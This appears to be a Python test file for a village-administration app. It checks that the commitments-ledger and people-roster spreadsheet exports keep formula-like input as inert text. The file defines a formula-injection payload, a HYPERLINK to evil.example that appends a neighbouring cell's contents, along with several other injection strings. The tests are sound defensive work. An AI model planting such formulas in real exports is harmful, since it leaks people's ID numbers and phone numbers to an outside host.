"""Text that looks like a formula leaves in an export as text (formula injection, issue 14 item 14): the people roster
holds ID numbers and phones, and a "=HYPERLINK(...)" typed as a name or a title must not become a live link."""

import re
import zipfile
from datetime import date
from io import BytesIO
from typing import Any

import pytest
from openpyxl import load_workbook

from conftest import TOWN_A, VILLAGE_A
from cunshe.spreadsheets.layout import Column, read_rows, write_workbook

LINK = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'


def formulas_in(content: bytes) -> list[str]:
    """The <f> elements of every sheet: what Excel evaluates on opening."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f>(.*?)</f>", archive.read(n).decode())]


def cells_with(content: bytes, text: str) -> list[Any]:
    sheet = load_workbook(BytesIO(content)).active
    assert sheet is not None
    return [cell for row in sheet.iter_rows() for cell in row if cell.value == text]


@pytest.mark.parametrize("text", [LINK, "+1+2", "-1+2", "@SUM(A1)", "\t=1+1", "＝1+1"])
def test_formula_like_text_is_written_as_text_and_reads_back_unchanged(text: str) -> None:
    columns = [Column("名称", "name")]
    buffer = BytesIO()
    write_workbook("表", columns, [{"name": text}, {"name": "普通文字"}], buffer)
    content = buffer.getvalue()
    assert formulas_in(content) == []
    (cell,) = cells_with(content, text)
    assert cell.data_type == "s" and cell.quotePrefix  # stays text even when someone edits the cell
    assert [r.values["name"] for r in read_rows(BytesIO(content), columns)] == [text.strip(), "普通文字"]


def test_the_commitments_ledger_export_holds_no_live_formula(make_user: Any, web_as: Any) -> None:
    from cunshe.commitments.services import commitment_create

    cadre = make_user("village_cadre", VILLAGE_A)
    commitment_create(
        actor=cadre,
        village_code=VILLAGE_A,
        year=2026,
        category="提升改善村容村貌",
        title=LINK,
        content="=1+1",
        target="@SUM(1)",
        deadline=date(2026, 12, 31),
        responsible_post="村党组织书记",
    )
    content = web_as(cadre).get(f"/commitments/export/?under={VILLAGE_A}").content
    assert formulas_in(content) == [] and cells_with(content, LINK)[0].data_type == "s"


def test_the_people_roster_export_holds_no_live_formula(make_user: Any, make_person: Any, web_as: Any) -> None:
    officer = make_user("town_officer", TOWN_A)
    make_person(VILLAGE_A, name=LINK)
    content = web_as(officer).get(f"/people/export/?under={VILLAGE_A}").content
    assert formulas_in(content) == [] and cells_with(content, LINK)[0].data_type == "s"
